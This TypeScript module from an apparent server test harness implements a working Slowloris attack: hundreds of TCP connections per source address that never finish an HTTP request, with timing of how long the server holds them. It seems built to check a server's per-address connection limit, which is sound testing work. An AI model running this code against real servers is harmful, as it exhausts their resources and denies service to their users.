/**
 * Slowloris on the HTTP port: TCP connections that never finish a request. Half send nothing at
 * all; half send a request line and then one header line every few seconds, never the blank
 * line. Each is kept open until the server closes it or the attack ends; how long the server
 * took is counted by bucket. A server that holds them without limit runs out of file
 * descriptors, and then nobody (not even a WebTransport client, which fetches connect-info
 * first) gets in.
 */
import { connect, type Socket } from 'node:net';
import { holdPerSource, type Attack } from './attack.js';

/** Connections each source holds at once (half idle, half slow). */
const SOCKETS_PER_SOURCE = 300;
/** Most connections one source opens over the run. */
const MAX_OPENS_PER_SOURCE = 3_000;
/** A slow connection sends one more header line this often. */
const HEADER_LINE_EVERY_MS = 5_000;
/** Pause before a closed connection is replaced. */
const REOPEN_DELAY_MS = 500;

/** The bucket of how long the server let a connection live. */
function lifetimeBucket(ms: number): string {
  if (ms < 1_000) return 'closed_within_1s';
  if (ms < 15_000) return 'closed_within_15s';
  if (ms < 60_000) return 'closed_within_60s';
  return 'closed_after_60s';
}

export const idleTcp: Attack = {
  kind: 'idle-tcp',
  what: `slowloris: ${SOCKETS_PER_SOURCE} TCP connections per source with no request, or one header line every ${HEADER_LINE_EVERY_MS / 1000} s`,
  expects: ['http connections_per_address'],
  async run(ctx) {
    const u = new URL(ctx.httpUrl);
    const hold = (source: string, slow: boolean) => new Promise<void>((resolve) => {
      const t0 = Date.now();
      const socket: Socket = connect({ host: u.hostname, port: Number(u.port), localAddress: source });
      let timer: NodeJS.Timeout | null = null;
      let n = 0;
      const end = setTimeout(() => {
        ctx.count('open_at_attack_end');
        socket.destroy();
      }, Math.max(0, ctx.until - Date.now()));
      socket.on('connect', () => {
        ctx.count('opened');
        if (!slow) return;
        socket.write(`GET /healthz HTTP/1.1\r\nHost: ${u.host}\r\n`);
        timer = setInterval(() => socket.write(`X-Slow-${n++}: ${'a'.repeat(16)}\r\n`), HEADER_LINE_EVERY_MS);
      });
      socket.on('data', () => ctx.count('answers'));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        if (timer) clearInterval(timer);
        clearTimeout(end);
        if (Date.now() < ctx.until) ctx.count(lifetimeBucket(Date.now() - t0));
        resolve();
      });
    });
    const o = { sources: ctx.sources, perSource: SOCKETS_PER_SOURCE, maxPerSource: MAX_OPENS_PER_SOURCE, reopenDelayMs: REOPEN_DELAY_MS, until: ctx.until };
    await holdPerSource(o, (source, slot) => hold(source, slot % 2 === 1));
  },
};
